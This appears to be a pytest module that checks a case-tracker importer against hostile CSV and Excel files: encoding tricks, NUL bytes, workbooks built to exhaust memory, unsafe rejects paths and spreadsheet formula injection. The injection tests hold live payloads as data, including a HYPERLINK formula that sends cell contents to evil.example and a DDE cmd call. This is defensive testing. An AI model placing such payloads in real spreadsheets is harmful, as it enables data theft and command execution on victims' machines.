"""Hostile files against ``caseworker import`` (issue 10, items 4 to 9 and the file parts of 11 and 12).

Each file is made here, as the reliability probe described it. A file that cannot be imported gives
one clear line (or one line per problem, then one closing line) and leaves the SQLite database byte for
byte as it was; a file that can be imported loses no row and garbles no name.
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import io
import os
import shutil
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from caseworker.context import AppContext
from caseworker.services.importing import ImportFailed, import_tracker
from caseworker.store.database import open_database
from caseworker.store.models import Case, Child
from tests.db.conftest import add_staff

TODAY = "2025-06-02"
HEADER = ["reference", "forename", "surname", "date_of_birth", "request_received"]


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    peak_mb: float

    @property
    def lines(self) -> list[str]:
        return self.stderr.strip().splitlines()

    def one_line(self) -> str:
        assert len(self.lines) == 1 and "Traceback" not in self.stderr, self.stderr[-3000:]
        return self.lines[0]


# The child reports its own peak (VmHWM belongs to the program after exec; a parent's size, inherited
# through fork, would count in os.wait4's ru_maxrss).
CHILD = """import atexit, os, sys
def peak():
    try:
        with open("/proc/self/status") as status:
            kb = next(line.split()[1] for line in status if line.startswith("VmHWM"))
    except (OSError, StopIteration):
        kb = "0"
    with open(os.environ["CW_PEAK_FILE"], "w") as out:
        out.write(kb)
atexit.register(peak)
from caseworker.cli import main
sys.exit(main(sys.argv[1:]))
"""


def cli(tmp: Path, *args: str) -> Run:
    """``caseworker`` in a child process, with that child's own peak memory (0 where /proc is not)."""
    peak = tmp / "peak.txt"
    done = subprocess.run([sys.executable, "-c", CHILD, *args], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "CW_PEAK_FILE": str(peak)})
    return Run(done.returncode, done.stdout, done.stderr, int(peak.read_text() or 0) / 1024)


def rows(n: int, start: int = 1) -> list[list[str]]:
    return [[f"EHC-{i:05d}", "Amelia", f"Jones{i}", "2015-03-02", "2025-01-06"] for i in range(start, start + n)]


def csv_bytes(table: list[list[str]], encoding: str = "utf-8") -> bytes:
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows(table)
    return text.getvalue().encode(encoding)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database in use: two cases imported by the team lead."""
    tmp = tmp_path_factory.mktemp("hostile")
    path = tmp / "team.sqlite"
    (tmp / "first.csv").write_bytes(csv_bytes([HEADER, *rows(2, start=90001)]))
    done = cli(tmp, "--database", f"sqlite:///{path}", "--as", "lead", "import", "--today", TODAY,
               str(tmp / "first.csv"))
    assert done.returncode == 0, done.stderr
    return path


@dataclass
class Team:
    tmp: Path
    path: Path

    @property
    def url(self) -> str:
        return f"sqlite:///{self.path}"

    def digest(self) -> str:
        h = hashlib.sha256(self.path.read_bytes())
        wal = Path(f"{self.path}-wal")
        h.update(wal.read_bytes() if wal.exists() else b"")
        return h.hexdigest()

    def imports(self, file: Path, *args: str) -> Run:
        return cli(self.tmp, "--database", self.url, "--as", "lead", "import", "--today", TODAY, *args, str(file))

    def refused(self, file: Path, *args: str) -> Run:
        """Import ``file``: it must fail, and change nothing."""
        before = self.digest()
        done = self.imports(file, *args)
        assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr[-3000:]
        assert self.digest() == before, "the database changed"
        return done

    def names(self) -> dict[str, str]:
        db = open_database(self.url)
        try:
            with db.sessions() as s:
                return {ref: f"{f} {n}" for ref, f, n in s.execute(
                    select(Case.reference, Child.forename, Child.surname).join(Child, Child.id == Case.child_id))}
        finally:
            db.dispose()


@pytest.fixture
def team(template: Path, tmp_path: Path) -> Team:
    path = tmp_path / "team.sqlite"
    shutil.copy(template, path)
    return Team(tmp_path, path)


# ---------------------------------------------------------------- item 4: .xlsx rows and formulas


def with_dimension(path: Path, ref: str | None) -> None:
    """Rewrite the first sheet's declared ``<dimension>`` (or take it out), as other programs write it."""
    with zipfile.ZipFile(path) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    start = sheet.index("<dimension")
    end = sheet.index("/>", start) + 2
    sheet = sheet[:start] + (f'<dimension ref="{ref}"/>' if ref else "") + sheet[end:]
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def workbook(path: Path, table: list[list[object]]) -> Path:
    wb = Workbook()
    ws = wb.active
    for row in table:
        ws.append(row)
    wb.save(path)
    return path


def test_a_workbook_whose_dimension_says_ten_rows_imports_all_fifty(team: Team) -> None:
    path = workbook(team.tmp / "fifty.xlsx", [HEADER, *rows(50)])
    with_dimension(path, "A1:M10")
    done = team.imports(path)
    assert done.returncode == 0, done.stderr
    assert "50 added" in done.stdout
    assert len([r for r in team.names() if r.startswith("EHC-000")]) == 50


def test_a_workbook_with_no_dimension_imports_every_row(team: Team) -> None:
    path = workbook(team.tmp / "nodim.xlsx", [HEADER, *rows(30)])
    with_dimension(path, None)
    done = team.imports(path)
    assert done.returncode == 0 and "30 added" in done.stdout, done.stderr


def test_formula_cells_with_no_saved_value_are_refused_by_row_and_column(team: Team) -> None:
    table: list[list[object]] = [HEADER, *rows(3)]
    table[2][2] = '=UPPER("jones")'  # row 3, surname: openpyxl saves formulas without a value
    table[3][3] = "=DATE(2015,3,2)"
    done = team.refused(workbook(team.tmp / "formulas.xlsx", table))
    assert done.lines == [
        'row 3, column surname: the formula =UPPER("jones") was saved without its value (the program that wrote the '
        "workbook did not calculate it): open it in Excel and save it, or type the value",
        "row 4, column date_of_birth: the formula =DATE(2015,3,2) was saved without its value (the program that "
        "wrote the workbook did not calculate it): open it in Excel and save it, or type the value",
        "nothing was imported: 2 rows of 3 have problems; fix them, or import the other rows with --skip-invalid"]


def test_a_cell_showing_an_excel_error_is_refused(team: Team) -> None:
    path = workbook(team.tmp / "error.xlsx", [HEADER, *rows(1)])
    with zipfile.ZipFile(path) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    cell = sheet.index('<c r="B2"')
    end = sheet.index("</c>", cell) + 4
    parts["xl/worksheets/sheet1.xml"] = (sheet[:cell] + '<c r="B2" t="e"><v>#REF!</v></c>' + sheet[end:]).encode()
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    done = team.refused(path)
    assert done.lines[0] == ("row 2, column forename: the cell shows the error #REF!: correct it in Excel, or clear "
                             "the cell")


def test_malformed_xml_in_a_valid_zip_is_one_line(team: Team) -> None:
    path = workbook(team.tmp / "broken.xlsx", [HEADER, *rows(5)])
    with zipfile.ZipFile(path) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"][:-40]  # cut off mid-element
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    line = team.refused(path).one_line()
    assert line.startswith("nothing was imported: broken.xlsx, row 6: the first sheet's XML is damaged"), line
    parts["xl/workbook.xml"] = b"<workbook"
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    line = team.refused(path).one_line()
    assert line.startswith("nothing was imported: broken.xlsx: not a readable .xlsx workbook (ParseError"), line


# ---------------------------------------------------------------- item 5: encodings


def test_one_stray_windows_1252_byte_in_a_utf8_file_is_refused_by_row(team: Team) -> None:
    good = csv_bytes([HEADER, ["EHC-00001", "Zoë", "Nguyễn", "2015-03-02", "2025-01-06"]])
    stray = csv_bytes([["EHC-00002", "Zoë", "Brontë", "2015-03-02", "2025-01-06"]], "cp1252")
    path = team.tmp / "mixed.csv"
    path.write_bytes(good + stray)
    line = team.refused(path).one_line()
    assert line.startswith("nothing was imported: mixed.csv, row 3, column forename: the file mixes encodings"), line


def test_a_windows_1252_file_imports_as_windows_1252(team: Team) -> None:
    path = team.tmp / "excel.csv"
    path.write_bytes(csv_bytes([HEADER, ["EHC-00001", "Zoë", "Brontë", "2015-03-02", "2025-01-06"]], "cp1252"))
    assert team.imports(path).returncode == 0
    assert team.names()["EHC-00001"] == "Zoë Brontë"


def test_a_file_neither_utf8_nor_windows_1252_is_refused(team: Team) -> None:
    path = team.tmp / "neither.csv"
    path.write_bytes(csv_bytes([HEADER, *rows(2)]) + b"EHC-00009,Zo\x81e,Smith,2015-03-02,2025-01-06\r\n")
    line = team.refused(path).one_line()
    assert "row 4, column forename: the file is neither UTF-8 nor Windows-1252" in line, line


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-8-sig"])
def test_a_file_with_a_byte_order_mark_is_read_in_its_encoding(team: Team, codec: str) -> None:
    bom = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE, "utf-8-sig": b""}[codec]
    path = team.tmp / "marked.csv"
    path.write_bytes(bom + csv_bytes([HEADER, ["EHC-00001", "Zoë", "Nguyễn", "2015-03-02", "2025-01-06"],
                                      ["EHC-00002", "محمد", "🙂Smith", "2015-03-02", "2025-01-06"]], codec))
    done = team.imports(path)
    assert done.returncode == 0, done.stderr
    assert team.names()["EHC-00001"] == "Zoë Nguyễn" and team.names()["EHC-00002"] == "محمد 🙂Smith"


def test_utf16_without_its_mark_is_refused(team: Team) -> None:
    path = team.tmp / "bare16.csv"
    path.write_bytes(csv_bytes([HEADER, *rows(1)], "utf-16-le"))
    assert "has NUL bytes" in team.refused(path).one_line()


# ---------------------------------------------------------------- item 6: formula injection


INJECTED = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(1)"]


def test_formula_names_are_refused_and_the_rejects_file_escapes_them(team: Team) -> None:
    table = [[*HEADER, "notes"]]
    for i, text in enumerate(INJECTED, start=1):
        table.append([f"EHC-{i:05d}", text, "Jones", "2015-03-02", "2025-01-06", text])
    table.append(["EHC-00099", "Amelia", "Jones", "2015-03-02", "2025-01-06", "\tTAB"])
    path = team.tmp / "injected.csv"
    path.write_bytes(csv_bytes(table))
    done = team.imports(path, "--skip-invalid")
    assert done.returncode == 0, done.stderr
    assert [line.split(":")[0] for line in done.lines] == [f"row {n}, column forename" for n in range(2, 7)]
    assert all("a name cannot begin with =, +, - or @" in line for line in done.lines)
    assert "1 added" in done.stdout and "5 rows rejected" in done.stdout
    written = (team.tmp / "injected.rejects.csv").read_text("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(written)) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert [r[1] for r in csv.reader(io.StringIO(written))][1:] == ["'" + t for t in INJECTED]
    # Read back, the rejects file is the same rows: the apostrophes come off, and the names are refused again.
    again = team.imports(team.tmp / "injected.rejects.csv", "--skip-invalid", "--rejects",
                         str(team.tmp / "again.csv"))
    assert (team.tmp / "again.csv").read_text("utf-8-sig") == written
    assert "0 added" in again.stdout and "5 rows rejected" in again.stdout


# ---------------------------------------------------------------- item 8: memory and time bombs


def wide_bomb(path: Path, rows_: int) -> Path:
    """A sheet with no dimension, each row a reference in A and a stray value in the last column, XFD:
    openpyxl padded every row to 16,384 cells (gigabytes for a file of a few hundred KB)."""
    def text(ref: str, value: str) -> str:
        return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'
    head = "".join(text(f"{chr(65 + i)}1", h) for i, h in enumerate(HEADER))
    body = "".join(f'<row r="{n}">{text(f"A{n}", f"R{n}")}{text(f"XFD{n}", "x")}</row>' for n in range(2, rows_ + 2))
    wb = workbook(path, [["x"]])
    with zipfile.ZipFile(wb) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    start, end = sheet.index("<sheetData>"), sheet.index("</sheetData>") + len("</sheetData>")
    sheet = sheet[:start] + f'<sheetData><row r="1">{head}</row>{body}</sheetData>' + sheet[end:]
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    with_dimension(path, None)
    return path


def test_a_few_hundred_kb_workbook_with_no_dimension_stays_small(team: Team) -> None:
    path = wide_bomb(team.tmp / "wide.xlsx", 40_000)
    assert path.stat().st_size < 600_000
    done = team.refused(path)
    assert "column XFD is beyond the 1,000 columns a tracker may have" in done.one_line()
    assert done.peak_mb < 250, done.peak_mb


def test_a_huge_file_with_no_header_is_refused_at_once(team: Team) -> None:
    path = team.tmp / "one-line.csv"
    path.write_bytes(b",".join(b"%d" % (i % 10) for i in range(2_150_000)))  # 4.3 MB, one line, no header
    done = team.refused(path)
    assert "row 1: 2,150,000 cells, more than the 1,000 columns a tracker may have" in done.one_line()
    assert done.peak_mb < 250, done.peak_mb
    data = team.tmp / "data-only.csv"
    data.write_bytes(csv_bytes(rows(100_000)))  # 4.6 MB of rows, no header row
    done = team.refused(data)
    assert done.lines[-1] == "nothing was imported: fix the header row of data-only.csv"
    assert done.peak_mb < 250, done.peak_mb


def test_the_first_hundred_problems_are_listed_and_the_rest_counted(team: Team) -> None:
    bad = [[f"EHC-{i:05d}", "Amelia", "Jones", "31/02/2015", "32/01/2025"] for i in range(1, 301)]
    path = team.tmp / "bad.csv"
    path.write_bytes(csv_bytes([HEADER, *bad]))
    done = team.refused(path)
    assert len(done.lines) == 102
    assert done.lines[99] == "row 51, column request_received: '32/01/2025' is not a real date"
    assert done.lines[100] == "... and 500 more problems in 250 more rows"
    assert done.lines[101].startswith("nothing was imported: 300 rows of 300 have problems")


# ---------------------------------------------------------------- item 9: where the rejects go


def test_an_existing_rejects_file_is_kept_unless_forced(team: Team) -> None:
    path = team.tmp / "t.csv"
    path.write_bytes(csv_bytes([HEADER, *rows(1), ["EHC-09999", "A", "B", "soon", "2025-01-06"]]))
    kept = team.tmp / "t.rejects.csv"
    kept.write_text("my notes\n", "utf-8")
    line = team.refused(path, "--skip-invalid").one_line()
    assert line == f"nothing was imported: the rejects file {kept} already exists; choose another name, or use " \
                   "--force to replace it"
    assert kept.read_text("utf-8") == "my notes\n"
    done = team.imports(path, "--skip-invalid", "--force")
    assert done.returncode == 0 and "EHC-09999" in kept.read_text("utf-8-sig")


def test_the_database_is_never_the_rejects_file(team: Team) -> None:
    path = team.tmp / "t.csv"
    path.write_bytes(csv_bytes([HEADER, *rows(1), ["EHC-09999", "A", "B", "soon", "2025-01-06"]]))
    for args in (("--rejects", str(team.path)), ("--rejects", str(team.path), "--force"),
                 ("--rejects", f"{team.path}-wal", "--force")):
        line = team.refused(path, "--skip-invalid", *args).one_line()
        assert "is the database in use; choose another name" in line, line
    other = team.tmp / "other.sqlite"
    shutil.copy(team.path, other)
    before = hashlib.sha256(other.read_bytes()).hexdigest()
    line = team.refused(path, "--skip-invalid", "--rejects", str(other), "--force").one_line()
    assert "is a database file; choose another name" in line
    assert hashlib.sha256(other.read_bytes()).hexdigest() == before


# ---------------------------------------------------------------- items 11 and 12: one line each


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_is_refused_without_waiting_on_it(team: Team) -> None:
    fifo = team.tmp / "tracker.csv"
    os.mkfifo(fifo)
    assert team.refused(fifo).one_line() == f"nothing was imported: {fifo} is a pipe: give a .csv or .xlsx file " \
                                            "saved on disk"


def test_a_folder_is_refused(team: Team) -> None:
    folder = team.tmp / "folder.csv"
    folder.mkdir()
    assert "is a folder" in team.refused(folder).one_line()


def test_a_nul_byte_in_a_name_is_one_line(team: Team) -> None:
    path = team.tmp / "nul.csv"
    path.write_bytes(csv_bytes([HEADER, *rows(2)]) + b"EHC-00009,Zo\x00e,Smith,2015-03-02,2025-01-06\r\n")
    line = team.refused(path).one_line()
    assert line.startswith("nothing was imported: nul.csv, row 4, column forename: the file has NUL bytes"), line


def test_a_nul_character_in_a_utf16_name_is_refused_by_row_and_column(team: Team) -> None:
    path = team.tmp / "nul16.csv"
    path.write_bytes(codecs.BOM_UTF16_LE + csv_bytes([HEADER, ["EHC-00009", "Zo\x00e", "Smith", "2015-03-02",
                                                               "2025-01-06"]], "utf-16-le"))
    done = team.refused(path)
    assert done.lines[0] == ("row 2, column forename: holds the control character 0x00 (not text anyone typed): "
                             "retype the value")


# ---------------------------------------------------------------- item 10: the window's rules


@pytest.mark.parametrize(("born", "says"), [
    ("2025-02-01", "row 2, column request_received: the request is dated before the child was born"),
    ("1900-01-01", "row 2, column date_of_birth: EHC plans are for children and young people up to 25: born "
                   "1 Jan 1900, they were 125 when the request was received"),
    ("0001-01-01", "row 2, column date_of_birth: EHC plans are for children and young people up to 25"),
])
def test_birth_dates_the_window_refuses_are_refused(team: Team, born: str, says: str) -> None:
    path = team.tmp / "born.csv"
    path.write_bytes(csv_bytes([HEADER, ["EHC-00001", "Amelia", "Jones", born, "2025-01-06"]]))
    assert team.refused(path).lines[0].startswith(says)


def test_the_same_birth_dates_are_refused_by_the_window() -> None:
    from caseworker.context import AppContext, fixed_clock
    from caseworker.services.steps import NewRequest, check_new_request

    ctx = AppContext(db=None, clock=fixed_clock(date(2025, 6, 2)))  # type: ignore[arg-type]
    for born in (date(2025, 2, 1), date(1900, 1, 1), date(1, 1, 1)):
        problems = check_new_request(ctx, NewRequest("Amelia", "Jones", born, date(2025, 1, 6)))
        assert problems, born
    named = check_new_request(ctx, NewRequest("=1+1", "Jo\x00nes", date(2015, 1, 1), date(2025, 1, 6),
                                              contact_name="@SUM(A1)"))
    assert [p.field for p in named] == ["forename", "surname", "contact_name"]


def test_a_nul_in_a_name_never_reaches_the_database(ctx: AppContext, tmp_path: Path) -> None:
    """PostgreSQL cannot store a NUL in text: it used to end in a raw DataError. Now, on either database,
    it is one problem by row and column and nothing is written."""
    actor = add_staff(ctx.db, "lead", "admin")
    path = tmp_path / "nul16.csv"
    path.write_bytes(codecs.BOM_UTF16_LE + csv_bytes([HEADER, *rows(1, start=5),
                                                      ["EHC-00009", "Amelia", "Jo\x00nes", "2015-03-02", "2025-01-06"]],
                                                     "utf-16-le"))
    with pytest.raises(ImportFailed) as failed:
        import_tracker(ctx, actor, path)
    assert failed.value.lines() == [
        "row 3, column surname: holds the control character 0x00 (not text anyone typed): retype the value",
        "nothing was imported: 1 row of 2 has problems; fix them, or import the other rows with --skip-invalid"]
    with ctx.db.sessions() as s:
        assert s.scalar(select(func.count()).select_from(Case)) == 0
